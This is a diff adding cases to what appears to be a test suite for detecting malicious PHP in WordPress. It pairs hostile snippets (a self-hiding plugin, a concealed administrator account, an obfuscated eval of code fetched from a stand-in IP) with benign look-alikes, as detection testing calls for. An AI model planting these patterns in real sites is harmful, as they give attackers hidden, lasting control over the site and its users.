@@ -66,6 +66,17 @@ CASES = [
      "<?php $hdl = fopen(\"$dir/.cache\", 'w'); fwrite($hdl, \"<?php\\n$m[1]\\n?>\"); fclose($hdl);\n"
      "include(\"$dir/.cache\"); unlink(\"$dir/.cache\");",
      "<?php include $compiled; if (time() > $expires) { unlink($lock); }\ninclude 'config.php'; @unlink('install.lock');"),
+    ("wp_plugin_hidden",
+     "<?php add_filter('all_plugins', function ($p) { unset($p[plugin_basename(__FILE__)]); return $p; });\n"
+     "add_filter('site_transient_update_plugins', function ($t) { unset($t->response[plugin_basename(__FILE__)]);"
+     " return $t; });",
+     "<?php add_filter('all_plugins', array('Spam_Admin', 'modify_plugin_description'));\n"
+     "function dismiss($i) { unset(self::$notices[$i]); }"),
+    ("wp_hidden_admin",
+     "<?php $id = wp_create_user('wp_service', $pass, $mail); (new WP_User($id))->set_role('administrator');\n"
+     "add_action('pre_user_query', 'hide_service_user');",
+     "<?php $user_id = wp_create_user($user_name, $user_password, $user_email); $user = new WP_User($user_id);\n"
+     "$user->set_role('administrator'); /* the installer's first account */ add_action('pre_get_posts', 'f');"),
     ("remote_code_evaluated",
      "<?=@null; @eval/**/('?>' . file_get_contents/**/('https://203.0.113.9/p/a.txt'));",
      "<?php echo htmlspecialchars(file_get_contents('https://example.org/news.txt'));\n"
